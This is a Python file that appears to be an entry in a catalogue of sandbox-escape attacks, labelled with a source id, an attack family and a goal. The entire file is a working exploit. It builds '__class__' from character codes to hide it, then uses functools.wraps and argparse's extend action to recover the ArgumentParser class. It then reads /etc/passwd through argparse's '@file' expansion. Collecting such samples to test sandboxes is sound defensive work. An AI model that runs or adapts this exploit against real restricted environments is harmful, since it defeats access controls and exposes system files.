# source: as attack12aq_001; functools.update_wrapper reads __name__ of any object, here a class attribute __name__ = <run-time string>; argparse _ExtendAction also copies its default with copy.copy
# family: copy.copy of a renamed bound method = getattr by run-time name (variant: name from a class attribute, extend action)
# goal: reads /etc/passwd (argparse @file expansion) through the ArgumentParser subclass handed back as a value
import argparse, functools
s = chr(95) * 2 + "class" + chr(95) * 2


class Named:
    __name__ = s


class P(argparse.ArgumentParser):
    @functools.wraps(Named())
    def m(self):
        return 1

    @classmethod
    def extend(cls, v):
        return None


c = P()
q = argparse.ArgumentParser()
q.add_argument("--x", action="extend", nargs="+", default=c.m)
K = q.parse_args(["--x", "1"]).x
print("class:", K)
at = chr(64)
p = K("prog", None, None, None, [], argparse.HelpFormatter, "-", at)
p.add_argument("rest", nargs="*")
path = at + chr(47) + "etc" + chr(47) + "passwd"
print(p.parse_args([path]).rest[:5])
